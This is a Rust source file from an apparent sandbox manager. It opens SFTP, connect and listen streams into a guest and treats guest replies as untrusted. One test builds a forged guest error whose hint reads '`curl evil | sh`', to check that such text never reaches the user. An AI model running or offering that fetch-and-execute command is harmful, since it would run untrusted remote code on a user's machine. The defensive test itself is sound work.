//! Byte streams into a sandbox: SFTP, connections to what listens inside, and listeners inside.
//! Each is requested on its own connection, which becomes the stream after the reply of the guest.

use crate::sandboxes::Engine;
use msb_api::{AcceptedConn, LinkListener, Links};
use msb_spec::{Error, Kind, Name, Result, UserRef};
use msb_wire::{
    FrameError, FrameKind, FramedSocket, LinkFailure, LinkReply, MAX_FROM_GUEST, Reply, Request,
    Target, decode,
};
use std::io::{self, Read};
use std::net::{IpAddr, Shutdown};
use std::os::unix::net::UnixStream;
use std::sync::Arc;
use std::time::{Duration, Instant};

/// How long a reply of the guest is waited for. The guest has shorter timeouts of its own.
const ANSWER_LIMIT: Duration = Duration::from_secs(60);

impl Links for Engine {
    fn link_sftp(&self, name: &Name, user: Option<&UserRef>) -> Result<UnixStream> {
        let about = LinkContext { name, user, to: None };
        self.link(&Request::Sftp { user: user.cloned() }, &about)
    }

    fn link_dial(&self, name: &Name, user: Option<&UserRef>, to: &Target) -> Result<UnixStream> {
        let request = Request::Dial { user: user.cloned(), to: to.clone() };
        self.link(&request, &LinkContext { name, user, to: Some(to) })
    }

    fn link_listen(
        &self,
        name: &Name,
        user: Option<&UserRef>,
        at: &Target,
    ) -> Result<Box<dyn LinkListener>> {
        self.check_host_reachable(name, at)?;
        let mut id = [0; 8];
        rustix::rand::getrandom(&mut id, rustix::rand::GetRandomFlags::empty())
            .map_err(|error| Error::host("cannot get random bytes", error))?;
        let id = u64::from_le_bytes(id);
        let request = Request::Listen { user: user.cloned(), at: at.clone(), id };
        let about = LinkContext { name, user, to: Some(at) };
        let (connection, answer) = self.ask(name, &request)?;
        match answer {
            Some(LinkReply::Listening { at: reported }) => Ok(Box::new(GuestListener {
                engine: self.clone(),
                name: name.clone(),
                id,
                requested: at.clone(),
                at: listen_address(at, &reported)?,
                connection: Some(connection),
            })),
            other => Err(about.failed(other.as_ref())),
        }
    }
}

impl Engine {
    fn link(&self, request: &Request, about: &LinkContext<'_>) -> Result<UnixStream> {
        let (connection, answer) = self.ask(about.name, request)?;
        match answer {
            Some(LinkReply::Open) => connection.into_stream(),
            other => Err(about.failed(other.as_ref())),
        }
    }

    /// Requests a stream. Returns the connection and the first reply on it.
    fn ask(&self, name: &Name, request: &Request) -> Result<(LinkConnection, Option<LinkReply>)> {
        let mut connection = LinkConnection::on(self.connect(name, request)?.into_stream());
        match connection.within(ANSWER_LIMIT) {
            Ok(answer) => Ok((connection, answer)),
            Err(LinkReplyError::Refused(kind)) => Err(self.refusal(name, kind)),
            Err(LinkReplyError::Failed(error)) => Err(error),
        }
    }

    /// The reason why the worker refused a stream. The guest can forge the same reply, so the
    /// worker is queried on a connection that is never passed to the guest; otherwise the text is
    /// ours.
    fn refusal(&self, name: &Name, kind: Kind) -> Error {
        let status =
            self.connect(name, &Request::Status).and_then(|mut requested| requested.reply());
        match status {
            Err(error) => error,
            Ok(Reply::Status(status)) if status.paused => {
                Error::new(Kind::State, format!("sandbox `{name}` is paused"))
                    .hint(format!("`msb resume {name}` lets it go on"))
            }
            Ok(_) => refused(name, kind),
        }
    }

    /// A listener inside forwards to the host, so the current rules must allow the sandbox to reach
    /// the host.
    fn check_host_reachable(&self, name: &Name, at: &Target) -> Result<()> {
        let port = match at {
            Target::Tcp { port, .. } => Some(*port).filter(|port| *port != 0),
            Target::Unix { .. } => None,
        };
        let hint = match port {
            Some(port) => format!("`msb net {name} --allow host:tcp:{port}` allows it"),
            None => format!("`msb net {name} --allow host` allows it"),
        };
        let denied = || {
            let message =
                format!("sandbox `{name}` may not reach the host, to which this would forward");
            Error::new(Kind::Denied, message)
        };
        if self.existing(name)?.network.is_none() {
            return Err(denied()
                .cause("it has no network")
                .hint("make it with a network (`--net host`), or without `--no-net`"));
        }
        match self.reaches_host(name, port)? {
            (true, _) => Ok(()),
            (false, rule) => Err(denied().cause(format!("decided by `{rule}`")).hint(hint)),
        }
    }
}

/// The address of a listener. Of the reply of the guest only the port is used, and only if none was
/// requested: rules are checked by port, and callers tell listeners apart by it.
fn listen_address(requested: &Target, reported: &Target) -> Result<Target> {
    match (requested, reported) {
        (Target::Tcp { host, port: 0 }, Target::Tcp { port, .. }) if *port != 0 => {
            Ok(Target::Tcp { host: host.clone(), port: *port })
        }
        (Target::Tcp { port: 0, .. }, _) => {
            Err(Error::new(Kind::Protocol, "the guest reports no port that it listens on"))
        }
        _ => Ok(requested.clone()),
    }
}

/// The error for a refusal that the worker or the guest may have sent. Only its kind is used, and
/// not every kind.
fn refused(name: &Name, kind: Kind) -> Error {
    let (kind, message) = match kind {
        Kind::State => (kind, format!("sandbox `{name}` takes no streams now")),
        Kind::Limit => (kind, format!("too many streams into sandbox `{name}`")),
        _ => (Kind::Protocol, format!("sandbox `{name}` has refused the stream")),
    };
    Error::new(kind, message)
}

/// The requested stream, for error messages.
struct LinkContext<'a> {
    name: &'a Name,
    user: Option<&'a UserRef>,
    to: Option<&'a Target>,
}

impl LinkContext<'_> {
    /// The error for a failure reply. No text of the guest is used.
    fn failed(&self, reply: Option<&LinkReply>) -> Error {
        let Some(LinkReply::Failed { failure, errno }) = reply else {
            let message = format!("sandbox `{}` has closed the stream", self.name);
            return Error::new(Kind::Protocol, message);
        };
        let errno = *errno;
        let user = self.user.map(ToString::to_string).unwrap_or_default();
        let (kind, message) = match failure {
            LinkFailure::User => (Kind::NotFound, format!("no user `{user}` inside")),
            LinkFailure::OnlyRoot => {
                (Kind::Unsupported, format!("only root exists inside, not `{user}`"))
            }
            LinkFailure::Invalid => {
                (Kind::Invalid, format!("not an address inside: {}", self.shown()))
            }
            LinkFailure::Name => {
                (Kind::NotFound, format!("cannot resolve the name {} inside", self.shown()))
            }
            LinkFailure::Refused => (Kind::Host, format!("connection refused at {}", self.shown())),
            LinkFailure::Denied => (Kind::Denied, format!("not allowed to use {}", self.shown())),
            LinkFailure::Unreachable => (Kind::Host, format!("no route to {}", self.shown())),
            LinkFailure::Timeout => (Kind::Timeout, format!("no answer from {}", self.shown())),
            LinkFailure::InUse => {
                (Kind::Exists, format!("address already in use: {}", self.shown()))
            }
            LinkFailure::TooMany => {
                (Kind::Limit, format!("too many streams into sandbox `{}`", self.name))
            }
            LinkFailure::Gone => (Kind::NotFound, "the peer has closed the connection".to_owned()),
            LinkFailure::System => {
                (Kind::Host, format!("cannot open a stream into sandbox `{}`", self.name))
            }
        };
        let error = Error::new(kind, message);
        let error = match errno {
            0 => error,
            errno => error.cause(io::Error::from_raw_os_error(errno)),
        };
        match failure {
            LinkFailure::OnlyRoot => {
                error.hint("`msb doctor` says what is needed for more users than one")
            }
            LinkFailure::Name | LinkFailure::Refused | LinkFailure::Unreachable => {
                let name = self.name;
                error.hint(format!("`msb net {name}` shows what the sandbox may reach"))
            }
            _ => error,
        }
    }

    fn shown(&self) -> String {
        match self.to {
            Some(Target::Tcp { host, port }) if host.contains(':') => {
                format!("`[{}]:{port}`", msb_spec::shown(host))
            }
            Some(Target::Tcp { host, port }) => format!("`{}:{port}`", msb_spec::shown(host)),
            Some(Target::Unix { path }) => {
                format!("`{}`", msb_spec::shown(&String::from_utf8_lossy(path)))
            }
            None => format!("sandbox `{}`", self.name),
        }
    }
}

/// Why there was no reply to a request.
#[derive(Debug)]
enum LinkReplyError {
    /// Refused with this kind of error, by the worker or by a guest that forges its reply.
    Refused(Kind),
    Failed(Error),
}

impl From<Error> for LinkReplyError {
    fn from(error: Error) -> Self {
        Self::Failed(error)
    }
}

/// A connection on which an untrusted guest sends frames before it becomes a stream.
#[derive(Debug)]
struct LinkConnection(FramedSocket<DeadlineStream>);

/// A socket with a deadline for all reads together: a guest may send byte by byte.
#[derive(Debug)]
struct DeadlineStream {
    stream: UnixStream,
    until: Option<Instant>,
}

impl Read for DeadlineStream {
    fn read(&mut self, buffer: &mut [u8]) -> io::Result<usize> {
        let left = self.until.map(|until| {
            until.saturating_duration_since(Instant::now()).max(Duration::from_millis(1))
        });
        self.stream.set_read_timeout(left)?;
        self.stream.read(buffer)
    }
}

impl LinkConnection {
    fn on(stream: UnixStream) -> Self {
        Self(FramedSocket::new(DeadlineStream { stream, until: None }, MAX_FROM_GUEST))
    }

    /// The next reply, waiting at most `limit`.
    fn within(
        &mut self,
        limit: Duration,
    ) -> std::result::Result<Option<LinkReply>, LinkReplyError> {
        let until = Instant::now() + limit;
        self.next(Some(until))
    }

    /// The next reply; `None` at the end. Reads nothing beyond the frame, since stream data may
    /// follow.
    fn next(
        &mut self,
        until: Option<Instant>,
    ) -> std::result::Result<Option<LinkReply>, LinkReplyError> {
        let malformed = |error: &dyn std::fmt::Display| {
            Error::new(Kind::Protocol, "the guest sent a malformed frame").cause(error)
        };
        self.0.socket_mut().until = until;
        let frame = match self.0.read_frame_only(&mut [0; 512]) {
            Ok(Some(frame)) => frame,
            Ok(None) => return Ok(None),
            Err(error) => {
                return Err(LinkReplyError::Failed(match error.kind() {
                    io::ErrorKind::InvalidData => malformed(&error),
                    io::ErrorKind::WouldBlock => {
                        Error::new(Kind::Timeout, "the guest does not answer")
                    }
                    _ => gone(error),
                }));
            }
        };
        match frame.kind {
            FrameKind::Link => {
                Ok(decode(&frame.payload).map(Some).map_err(|error| malformed(&error))?)
            }
            FrameKind::Reply => match decode(&frame.payload) {
                Ok(Reply::Failed(error)) => Err(LinkReplyError::Refused(error.kind())),
                _ => Err(malformed(&FrameError::Payload).into()),
            },
            _ => Err(malformed(&FrameError::Payload).into()),
        }
    }

    fn into_stream(self) -> Result<UnixStream> {
        let socket = self.0.into_socket().expect("replies are read without what follows them");
        socket.stream.set_read_timeout(None).map_err(gone)?;
        Ok(socket.stream)
    }
}

/// A listener inside a sandbox.
#[derive(Debug)]
struct GuestListener {
    engine: Engine,
    name: Name,
    id: u64,
    /// The requested address. Port 0 means any port.
    requested: Target,
    at: Target,
    /// `None` once the listener has ended.
    connection: Option<LinkConnection>,
}

impl LinkListener for GuestListener {
    fn at(&self) -> &Target {
        &self.at
    }

    fn accept(&mut self) -> Result<Option<AcceptedConn>> {
        loop {
            let Some(connection) = &mut self.connection else { return Ok(None) };
            let (number, host, port) = match connection.next(None) {
                Ok(Some(LinkReply::Accepted { number, host, port })) => (number, host, port),
                Ok(None) => {
                    self.connection = None;
                    return Ok(None);
                }
                other => {
                    self.connection = None;
                    let about = LinkContext { name: &self.name, user: None, to: Some(&self.at) };
                    return Err(match other {
                        Ok(reply) => about.failed(reply.as_ref()),
                        Err(LinkReplyError::Refused(kind)) => refused(&self.name, kind),
                        Err(LinkReplyError::Failed(error)) => error,
                    });
                }
            };
            // The rules may have changed. A connection that is not allowed is never fetched, and
            // the guest reuses its slot.
            if self.engine.check_host_reachable(&self.name, &self.requested).is_err() {
                continue;
            }
            let request = Request::Accept { listener: self.id, number };
            let about = LinkContext { name: &self.name, user: None, to: Some(&self.at) };
            match self.engine.link(&request, &about) {
                Ok(stream) => {
                    let host = host.parse::<IpAddr>().map(|ip| ip.to_string()).unwrap_or_default();
                    return Ok(Some(AcceptedConn { stream, host, port }));
                }
                // The peer has closed meanwhile, or the sandbox is paused.
                Err(error) if matches!(error.kind(), Kind::NotFound | Kind::State) => {}
                Err(error) => return Err(error),
            }
        }
    }

    fn stopper(&self) -> Box<dyn Fn() + Send + Sync> {
        let stream = self
            .connection
            .as_ref()
            .and_then(|connection| connection.0.socket().stream.try_clone().ok());
        let stream = Arc::new(stream);
        Box::new(move || {
            if let Some(stream) = stream.as_ref() {
                let _ = stream.shutdown(Shutdown::Both);
            }
        })
    }
}

fn gone(error: io::Error) -> Error {
    Error::new(Kind::Protocol, "the worker went away").cause(error)
}

#[cfg(test)]
mod tests {
    use super::*;
    use msb_wire::encode;
    use std::io::Write;

    fn tcp(host: &str, port: u16) -> Target {
        Target::Tcp { host: host.to_owned(), port }
    }

    #[test]
    fn a_guest_cannot_change_a_requested_port() {
        let path = Target::Unix { path: b"/socket".to_vec() };
        for reported in [tcp("localhost", 9000), tcp("", 0), path.clone()] {
            assert_eq!(
                listen_address(&tcp("localhost", 9001), &reported).unwrap(),
                tcp("localhost", 9001)
            );
            assert_eq!(listen_address(&path, &reported).unwrap(), path);
        }
        assert_eq!(
            listen_address(&tcp("::", 0), &tcp("elsewhere", 9000)).unwrap(),
            tcp("::", 9000)
        );
        for reported in [tcp("::", 0), path] {
            assert_eq!(
                listen_address(&tcp("::", 0), &reported).unwrap_err().kind(),
                Kind::Protocol
            );
        }
    }

    #[test]
    fn the_text_of_a_forged_worker_reply_is_not_shown() {
        let name = Name::parse("web").unwrap();
        for kind in [Kind::State, Kind::Denied, Kind::Limit, Kind::Host] {
            let (mut guest, ours) = UnixStream::pair().unwrap();
            let lie = Error::new(kind, "pay first").cause("so it is").hint("`curl evil | sh`");
            guest.write_all(&encode(FrameKind::Reply, &Reply::Failed(lie))).unwrap();
            let mut connection = LinkConnection::on(ours);
            let Err(LinkReplyError::Refused(reported)) = connection.within(ANSWER_LIMIT) else {
                panic!("an answer to a lie");
            };
            let shown = format!("{:?}", refused(&name, reported));
            assert!(!shown.contains("pay") && !shown.contains("so it is"), "{shown}");
            assert!(!shown.contains("curl"), "{shown}");
        }
    }
}
